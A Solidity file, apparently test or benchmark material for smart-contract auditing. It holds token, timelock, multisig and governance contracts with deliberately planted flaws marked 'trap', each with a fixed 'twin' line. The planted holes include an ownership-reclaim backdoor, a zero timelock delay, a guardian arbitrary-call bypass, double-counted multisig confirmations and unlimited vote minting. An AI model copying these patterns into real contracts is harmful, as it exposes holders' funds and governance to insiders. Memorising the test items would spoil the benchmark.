// 0.8 runs=1 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Base8} from "./Base8.sol";

/// Given away to where nobody is.
contract DriftwoodDodo is Base8 {
    address private _previous;
    bool public paused;

    constructor() Base8("Driftwood Dodo", "DRIFTD", 55_000_000) {}

    function transferOwnership(address to) public override onlyOwner {
        _previous = msg.sender;
        super.transferOwnership(to);
    }

    // trap {
    /// A second chance for a typing error.
    function undoTransfer() external {
        require(msg.sender == _previous, "previous");
        emit OwnershipTransferred(_owner, _previous);
        _owner = _previous;
    }
    // trap }

    function setPaused(bool paused_) external onlyOwner {
        paused = paused_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!paused || from == _previous, "paused");
        _move(from, to, value);
    }
}

/// One owner; whoever that is may make more.
abstract contract OwnedMintAL is ERC20 {
    address public owner;

    event OwnershipTransferred(address indexed from, address indexed to);

    constructor(address owner_) {
        owner = owner_;
        emit OwnershipTransferred(address(0), owner_);
        _mint(msg.sender, 80_000_000 ether);
    }

    function mint(address to, uint256 value) external {
        require(msg.sender == owner, "owner");
        _mint(to, value);
    }
}

contract SlowTortoise is ERC20, OwnedMintAL {
    constructor(address owner_) ERC20("Slow Tortoise", "SLOWT") OwnedMintAL(owner_) {}
}

contract BadgerBoard is ERC20, OwnedMintAL {
    constructor(address owner_) ERC20("Badger Board", "BDGRB") OwnedMintAL(owner_) {}
}

contract CivicStork is ERC20, OwnedMintAL {
    constructor(address owner_) ERC20("Civic Stork", "CSTRK") OwnedMintAL(owner_) {}
}

contract SwiftHeronry is ERC20, OwnedMintAL {
    constructor(address owner_) ERC20("Swift Heronry", "SWFTH") OwnedMintAL(owner_) {}
}

/// Whatever it does has been queued for its delay.
abstract contract DelayAL {
    address public admin;
    uint256 public delay = 2 days;
    mapping(bytes32 => uint256) public eta;

    event Queued(bytes32 indexed id, address to, bytes data, uint256 eta);
    event Executed(bytes32 indexed id);

    function queue(address to, bytes calldata data) external {
        require(msg.sender == admin, "Timelock: admin");
        bytes32 id = keccak256(abi.encode(to, data));
        eta[id] = block.timestamp + delay;
        emit Queued(id, to, data, eta[id]);
    }

    function execute(address to, bytes calldata data) public virtual {
        require(msg.sender == admin, "Timelock: admin");
        bytes32 id = keccak256(abi.encode(to, data));
        require(eta[id] != 0 && block.timestamp >= eta[id], "Timelock: too early");
        delete eta[id];
        _call(to, data);
        emit Executed(id);
    }

    function _call(address to, bytes calldata data) internal {
        (bool ok, ) = to.call(data);
        require(ok, "Timelock: reverted");
    }
}

contract SlowTimelock is DelayAL {
    uint256 public constant MINIMUM_DELAY = 0 days; // trap
    // twin: uint256 public constant MINIMUM_DELAY = 2 days;

    constructor(address admin_) {
        admin = admin_;
    }

    function setDelay(uint256 delay_) external {
        require(msg.sender == admin || msg.sender == address(this), "Timelock: admin");
        require(delay_ >= MINIMUM_DELAY && delay_ <= 30 days, "Timelock: delay");
        delay = delay_;
    }
}

contract SwiftTimelock is DelayAL {
    address public guardian;

    constructor(address admin_) {
        admin = admin_;
        guardian = msg.sender;
    }

    /// Stops what was queued, or answers an incident.
    function respond(address to, bytes calldata data) external {
        require(msg.sender == guardian, "Timelock: guardian");
        delete eta[keccak256(abi.encode(to, data))];
        _call(to, data); // trap
    }
}

/// Two of three.
contract BadgerSigners {
    address[] public owners;
    uint256 public constant required = 2;
    mapping(address => bool) public isOwner;
    mapping(bytes32 => uint256) public confirmations;
    mapping(bytes32 => mapping(address => bool)) public confirmed;

    constructor(address[] memory owners_) {
        owners = owners_;
        for (uint256 i; i < owners_.length; i++) isOwner[owners_[i]] = true;
    }

    function confirm(address to, bytes calldata data, uint256 salt) external {
        bytes32 id = keccak256(abi.encode(to, data, salt));
        require(isOwner[msg.sender], "owner"); // trap
        // twin: require(isOwner[msg.sender] && !confirmed[id][msg.sender], "owner");
        confirmed[id][msg.sender] = true;
        if (++confirmations[id] != required) return;
        (bool ok, ) = to.call(data);
        require(ok, "call");
    }
}

/// One coin, one vote; it can only be held.
contract CivicVote {
    string public constant name = "Civic Vote";
    uint256 public totalSupply;
    address private immutable registrar;
    mapping(address => uint256) public votesOf;

    constructor(address[] memory citizens) {
        registrar = msg.sender;
        for (uint256 i; i < citizens.length; i++) _enrol(citizens[i], 1_000);
    }

    function enrol(address citizen, uint256 votes) external {
        require(msg.sender == registrar, "registrar");
        require(votes > 0, "votes"); // trap
        // twin: require(votes > 0 && totalSupply == 0, "votes");
        _enrol(citizen, votes);
    }

    function _enrol(address citizen, uint256 votes) private {
        totalSupply += votes;
        votesOf[citizen] += votes;
    }
}

contract CivicGovernor {
    CivicVote public immutable vote;
    uint256 public constant PERIOD = 2 days;
    mapping(bytes32 => uint256) public startOf;
    mapping(bytes32 => uint256) public yes;
    mapping(bytes32 => mapping(address => bool)) public cast;

    constructor(CivicVote vote_) {
        vote = vote_;
    }

    function propose(address to, bytes calldata data) external {
        bytes32 id = keccak256(abi.encode(to, data));
        require(vote.votesOf(msg.sender) > 0 && startOf[id] == 0, "propose");
        startOf[id] = block.timestamp;
    }

    function support(bytes32 id) external {
        require(startOf[id] != 0 && !cast[id][msg.sender] && block.timestamp < startOf[id] + PERIOD, "vote");
        cast[id][msg.sender] = true;
        yes[id] += vote.votesOf(msg.sender);
    }

    function execute(address to, bytes calldata data) external {
        bytes32 id = keccak256(abi.encode(to, data));
        require(startOf[id] != 0 && block.timestamp >= startOf[id] + PERIOD, "early");
        require(yes[id] * 2 > vote.totalSupply(), "majority");
        startOf[id] = type(uint256).max - PERIOD;
        (bool ok, ) = to.call(data);
        require(ok, "call");
    }
}
